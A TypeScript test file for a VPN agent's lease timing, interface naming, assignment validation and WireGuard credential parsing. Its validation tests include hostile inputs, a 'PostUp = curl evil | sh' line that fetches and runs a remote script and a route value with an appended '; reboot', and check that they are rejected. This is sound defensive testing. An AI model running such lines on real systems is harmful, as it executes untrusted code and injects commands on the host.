/**
 * The VPN owner's pure parts: lease timing, contention order, interface
 * names, snapshot diffs, the checks of the snapshot's `vpn` part and of the
 * credential text (hostile input included).
 */
import assert from "node:assert/strict";
import { parseCredential } from "../../agent/vpn/credential.js";
import { leaseDeadline } from "../../agent/vpn/lease-client.js";
import { contendBlocker, contendDelayMs, interfaceName, planAssignments, renewIntervalMs, renewRetryMs } from "../../agent/vpn/plan.js";
import { vpnDeadlineMarginMs } from "../../lib/agent-protocol.js";
import { assignmentsOf, type VpnAssignment } from "../../agent/vpn/types.js";
import { seeded } from "../support/random.js";

const A: VpnAssignment = { connection: "org-a/exit", mode: "Exit", preference: 0, routes: [{ destination: "10.20.0.0/16", action: "Route", metric: 10 }], leaseTtlMs: 3000, hasCredentialRef: true, enabled: true };
const KEY = "OKXcyhb/PJjsT0C8aQSHPqnkCmLoSSKyyI5BPD6r8Xw=";
const CRED = `[Interface]\nPrivateKey = ${KEY}\nAddress = 10.99.0.2/32\n[Peer]\nPublicKey = QbHx3wCzI5TeceYzqDvx2ifCuBmKCT5TF3qfTiXUBmA=\nEndpoint = 10.88.0.2:51820\nAllowedIPs = 10.20.0.0/16\nPersistentKeepalive = 5\n`;

describe("vpn owner plan: lease timing", () => {
  it("deadline = send time + ttl - max(1 s, ttl/10); renew every ttl/3", () => {
    assert.equal(vpnDeadlineMarginMs(3000), 1000);
    assert.equal(vpnDeadlineMarginMs(30_000), 3000);
    assert.equal(leaseDeadline(500, 3000), 2500);
    assert.equal(leaseDeadline(100, 30_000), 27_100);
    assert.equal(renewIntervalMs(30_000), 10_000);
    // A renewal and one retry fit before the deadline, for any ttl the agent accepts (2 s .. 1 h).
    for (const ttl of [2000, 3000, 10_000, 60_000, 3_600_000]) assert.ok(renewIntervalMs(ttl) + renewRetryMs(ttl) < leaseDeadline(0, ttl), `ttl ${ttl}`);
  });

  it("a lower preference always asks first, whatever the jitter (seeded)", () => {
    const seed = Date.now() % 100_000;
    console.log(`      seed ${seed}`);
    const random = seeded(seed);
    for (let i = 0; i < 1000; i++) {
      const ttl = 2000 + Math.floor(random() * 60_000);
      const p = Math.floor(random() * 8);
      assert.ok(contendDelayMs(p, ttl, random()) < contendDelayMs(p + 1, ttl, random()), `seed ${seed}, ttl ${ttl}, preference ${p}`);
    }
  });

  it("does not contend for a disabled connection, one without a credential, or without the tools", () => {
    assert.deepEqual(contendBlocker({ ...A, enabled: false }, { ok: true }), { state: "not_started", reason: "connection disabled" });
    assert.equal(contendBlocker({ ...A, hasCredentialRef: false }, { ok: true })?.state, "blocked");
    assert.deepEqual(contendBlocker(A, { ok: false, reason: "no wireguard-go" }), { state: "blocked", reason: "no wireguard-go" });
    assert.equal(contendBlocker(A, { ok: true }), undefined);
  });
});

describe("vpn owner plan: interface names and snapshot diffs", () => {
  it("names interfaces by (cluster, node, connection) within 15 characters", () => {
    const names = new Set<string>();
    for (const node of ["n1", "n2", "n3"]) for (const c of ["a/x", "a/y", "b/x"]) names.add(interfaceName("fvpn", "c1", node, c));
    assert.equal(names.size, 9);
    for (const n of names) assert.match(n, /^fvpn[a-z2-7]{11}$/);
    assert.equal(interfaceName("afw", "c1", "n1", "a/x"), interfaceName("afw", "c1", "n1", "a/x"));
    assert.throws(() => interfaceName("Bad-", "c", "n", "a/x"), /interface prefix/);
    assert.throws(() => interfaceName("toolongpfx", "c", "n", "a/x"), /interface prefix/);
  });

  it("starts, updates and stops by connection", () => {
    const current = new Map([
      ["org-a/exit", A],
      ["org-a/gone", { ...A, connection: "org-a/gone" }],
    ]);
    const p = planAssignments(current, [{ ...A, routes: [] }, { ...A, connection: "org-a/new" }]);
    assert.deepEqual(p.stop, ["org-a/gone"]);
    assert.deepEqual(p.start.map((a) => a.connection), ["org-a/new"]);
    assert.deepEqual(p.update.map((a) => a.connection), ["org-a/exit"]);
    assert.deepEqual(planAssignments(new Map([["org-a/exit", A]]), [A]), { start: [], update: [], stop: [] });
  });
});

describe("vpn owner plan: the snapshot's vpn part is checked field by field", () => {
  it("keeps valid assignments and names the reason for each bad one", () => {
    let deep: unknown = {};
    for (let i = 0; i < 200; i++) deep = { routes: deep };
    const { assignments, invalid } = assignmentsOf({
      vpn: {
        assignments: [
          A,
          { ...A, connection: "org-a/exit" },
          { ...A, connection: "no-namespace" },
          { ...A, connection: "org-a/b", routes: [{ destination: "10.0.0.0/8; reboot", action: "Route", metric: 1 }] },
          { ...A, connection: "org-a/c", routes: [{ destination: "300.0.0.0/8", action: "Route", metric: 1 }] },
          { ...A, connection: "org-a/d", routes: [{ destination: "10.0.0.0/8", action: "Drop", metric: 1 }] },
          { ...A, connection: "org-a/e", leaseTtlMs: 5 },
          { ...A, connection: "org-a/f", preference: -1 },
          { ...A, connection: "org-a/g", enabled: "yes" },
          { ...A, connection: "org-a/h", routes: deep },
          { ...A, connection: "org-a/i", routes: Array.from({ length: 2000 }, () => A.routes[0]) },
          { ...A, connection: "org-a/j", mode: "Both" },
          { ...A, connection: "org-a/k", routes: [{ destination: "10.0.0.0/8", action: "Route", metric: 2 ** 40 }] },
          null,
          "x",
        ],
      },
    });
    assert.deepEqual(assignments, [A]);
    assert.equal(invalid.length, 14);
    assert.ok(invalid.every((i) => i.invalid.length > 0));
    assert.deepEqual(assignmentsOf({}), { assignments: [], invalid: [] });
    assert.equal(assignmentsOf({ vpn: { assignments: "all" } }).invalid.length, 1);
    assert.equal(assignmentsOf(null).assignments.length, 0);
  });
});

describe("vpn owner plan: the credential text", () => {
  it("passes everything but Address (and MTU) to wg setconf", () => {
    const c = parseCredential(CRED);
    assert.deepEqual(c.addresses, ["10.99.0.2/32"]);
    assert.deepEqual(c.endpointHosts, ["10.88.0.2"]);
    assert.doesNotMatch(c.setconf, /Address/);
    assert.match(c.setconf, /^\[Interface\]\nPrivateKey = .*\n\[Peer\]\nPublicKey = /);
    assert.equal(parseCredential(CRED.replace("Address", "MTU = 1380\nAddress")).mtu, 1380);
  });

  it("refuses what would configure the host or is malformed, never echoing a value", () => {
    const bad: [string, RegExp][] = [
      [CRED.replace("[Peer]", "PostUp = curl evil | sh\n[Peer]"), /PostUp is not supported/],
      [CRED.replace("[Peer]", "DNS = 1.1.1.1\n[Peer]"), /DNS is not supported/],
      [CRED.replace("[Peer]", "Table = off\n[Peer]"), /Table is not supported/],
      [CRED.replace(/PrivateKey = .*\n/, ""), /no \[Interface\] PrivateKey/],
      [CRED.replace(/Address = .*\n/, ""), /no \[Interface\] Address/],
      [CRED.replace("10.99.0.2/32", "10.99.0.2/32 dev lo"), /Address is not a list of CIDRs/],
      [CRED.replace("10.88.0.2:51820", "vpn.example.com:51820"), /Endpoint is not IP:port/],
      [CRED.replace(/\[Peer\][^]*$/, ""), /no \[Peer\]/],
      [`[Peer]\n${CRED}`, /\[Peer\] before \[Interface\]/],
      [`${CRED}[Interface]\n`, /must come first and once/],
      [CRED.replace("[Peer]", "[Wat]"), /unknown section/],
      [CRED.replace("PersistentKeepalive = 5", "just text"), /not a key = value line/],
      [CRED + "#".repeat(70_000), /larger than/],
    ];
    for (const [text, re] of bad) {
      assert.throws(() => parseCredential(text), (err: Error) => {
        assert.match(err.message, re);
        assert.ok(!err.message.includes(KEY), "the private key is never in a message");
        return true;
      });
    }
    assert.throws(() => parseCredential(CRED.replace(`PrivateKey = ${KEY}`, `PrivateKey = ${KEY}\nBogus = ${KEY}`)), (err: Error) => !err.message.includes(KEY));
  });
});
